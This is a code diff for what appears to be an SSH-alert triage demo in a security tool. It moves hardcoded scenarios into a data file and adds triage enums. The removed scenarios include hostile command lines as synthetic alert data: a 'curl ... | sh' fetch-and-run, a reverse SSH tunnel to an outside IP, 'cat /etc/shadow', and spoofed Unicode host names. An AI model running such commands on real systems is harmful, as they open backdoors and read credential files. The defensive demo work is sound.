@@ -3,83 +3,61 @@
 import random
 from dataclasses import dataclass
 from datetime import datetime
+from enum import StrEnum
+from functools import cache
 from hashlib import sha256
+from importlib.resources import files
 from typing import Any
 
+import msgspec
+
 from app.demo.event_builders import EVENT_BUILDERS, ProcessStart, build_benign_process
+from app.domain.alert import Verdict
+
+
+class FollowUp(StrEnum):
+    """Triage of a scenario's first alert."""
+
+    ACKNOWLEDGE = "acknowledge"
+    CLOSE = "close"
+    EXCLUDE = "exclude"
+    """An admin creates an exclusion, which is active at once."""
+    PROPOSE = "propose"
+    """An analyst proposes an exclusion."""
 
 
 @dataclass(frozen=True, slots=True)
 class Scenario:
-    """A process that starts `count` times a day in a container.
+    """A process that starts `count` times in a container; a line of `scenarios.ndjson`.
 
-    `follow_up` is the triage of its first alert: "acknowledge", "exclude", "propose" (an exclusion with
-    `reason` and `owner`, active or only proposed), or "VERDICT: REASON" to close it.
+    The starts are between `hours_ago[0]` and `hours_ago[1]` hours before the demo. An alert is closed with
+    `verdict` and `reason`; an exclusion has `reason` and `owner`.
     """
 
     agent: str
+    hours_ago: tuple[float, float]
+    count: int
+    host: str
     container: str
     image: str
     tag: str
     namespace: str
-    host: str
     user: str
-    args: tuple[str, ...]
     parent: tuple[str, ...]
-    count: int = 1
-    follow_up: str | None = None
+    args: tuple[str, ...]
+    follow_up: FollowUp | None = None
+    verdict: Verdict | None = None
     reason: str = ""
     owner: str = ""
 
 
-SCENARIOS = (
-    Scenario("fleet-eu", "checkout-7d9f", "shop/checkout", "4.12", "prod", "node-17", "www-data",
-          ("autossh", "-M", "0", "-f", "-N", "-R", "0.0.0.0:2222:localhost:22", "-p", "443", "-o",
-           "StrictHostKeyChecking=no", "ops@203.0.113.9"),
-          ("sh", "-c", "curl -s 203.0.113.9/x | sh"), count=41),
-    Scenario("fleet-eu", "etl-nightly-28f", "data/etl", "2026.11", "batch", "node-04", "root",
-          ("/usr/sbin/sshd", "-D", "-p", "2022", "-o", "PermitRootLogin=yes"), ("sh",)),
-    Scenario("fleet-eu", "web-5c6b", "shop/web", "9.1", "prod", "node-11", "nginx",
-          ("ssh", "-i", "/tmp/.k", "deploy@10.42.3.17"), ("bash",), count=3, follow_up="acknowledge"),
-    Scenario("ci-runners", "ci-runner-88", "ci/runner", "51", "ci", "node-02", "runner",
-          ("ssh", "-o", "BatchMode=yes", "deploy@bastion.corp.example", "uptime"),
-          ("node", "/srv/runner/bin/run.js"), count=214, follow_up="propose",
-          reason="Runners ask the bastion for its load before a deploy.", owner="build-team"),
-    Scenario("cloud-defend", "notebook-ana", "ds/jupyter", "7.3", "ds", "gpu-01", "jovyan",
-          ("ssh", "-N", "-D", "127.0.0.1:1080", "ana@gw-eu.example.net"), ("bash",), count=6),
-    Scenario("cloud-defend", "argocd-repo-0", "argo/cd", "3.2", "ops", "node-03", "argocd",
-          ("ssh", "-p", "7999", "git@git.corp.example", "git-upload-pack 'infra/charts.git'"),
-          ("git", "fetch", "origin"), count=120, follow_up="exclude",
-          reason="The repo server clones over ssh; documented in OPS-2291.", owner="platform-team"),
-    Scenario("fleet-eu", "toolbox-1", "ops/toolbox", "22", "ops", "node-03", "ops",
-          ("ssh", "-A", "-J", "jump.corp.example", "ops@10.20.4.17"), ("bash",), count=12),
-    Scenario("fleet-eu", "pg-backup-2", "db/backup", "15", "prod", "node-08", "postgres",
-          ("ssh", "-l", "rsync", "backup-07.example", "rsync", "--server", "-vlogDtpre.iLsfxC", ".",
-           "/srv/pg"), ("rsync", "-a", "/var/lib/pg"), count=96,
-          follow_up="benign true positive: Nightly base backup, see RUN-114."),
-    Scenario("ci-runners", "build-19ad", "ci/kaniko", "1.24", "ci", "node-02", "root",
-          ("ssh", "-V"), ("sh", "./configure"), count=55,
-          follow_up="false positive: A configure script looks for the version."),
-    Scenario("fleet-eu", "edi-out-3", "fin/edi", "3.3", "fin", "node-21", "edi",
-          ("ssh", "-oPort=2222", "-s", "acme@sftp.partner.example", "sftp"),
-          ("python3", "/srv/edi/send.py"), count=8),
-    Scenario("fleet-eu", "legacy-erp", "fin/erp", "2014", "fin", "node-21", "root",
-          ("sshd: erp [priv]",), ("sshd",), count=30),
-    Scenario("cloud-defend", "cart-66cd", "shop/cart", "2.8", "prod", "node-12", "app",
-          ("ssh", "-o", "UserKnownHostsFile=/dev/null", "-o", "StrictHostKeyChecking=no",
-           "root@172.17.0.1", "id; cat /etc/shadow"), ("java", "-jar", "cart.jar"), count=2,
-          follow_up="true positive: Remote code execution in the cart service, INC-5512."),
-    Scenario("falco", "mail-relay-1", "ops/mail", "3.7", "ops", "edge-02", "postfix",
-          ("ssh", "-o", "StrictHostKeyChecking=no", "-R", "9000:localhost:25", "ops@198.51.100.23"),
-          ("sh",), count=4),
-    Scenario("tetragon", "scheduler-0", "data/airflow", "2.9", "data", "node-14", "airflow",
-          ("ssh", "etl@warehouse-02.example", "/opt/etl/run.sh --full"),
-          ("python3", "/opt/airflow/task.py"), count=24),
-    Scenario("tracee", "debug-box", "ops/debug", "1", "staging", "node-19", "root",
-          ("/usr/sbin/sshd", "-D", "-p", "2200"), ("sh", "/entrypoint.sh"), count=2),
-    Scenario("ci-runners", "deploy-\u202egnp.4f2", "ci/runner", "51", "ci", "node-05", "runner",
-          ("ssh", "deploy@b\u0430stion.corp.example", "true"), ("bash",)),
-)  # fmt: skip
+@cache
+def load_scenarios() -> tuple[Scenario, ...]:
+    """Return the scenarios of `scenarios.ndjson`."""
+    lines = files(__package__).joinpath("scenarios.ndjson").read_text(encoding="utf-8").splitlines()
+    decoder = msgspec.json.Decoder(Scenario)
+    return tuple(decoder.decode(line) for line in lines)
+
 
 INVALID_EVENTS = [
     b'{"event":{"category":["process"],"type":["start"]},"process":{"args":["ssh","\xff\xfe"]}}',
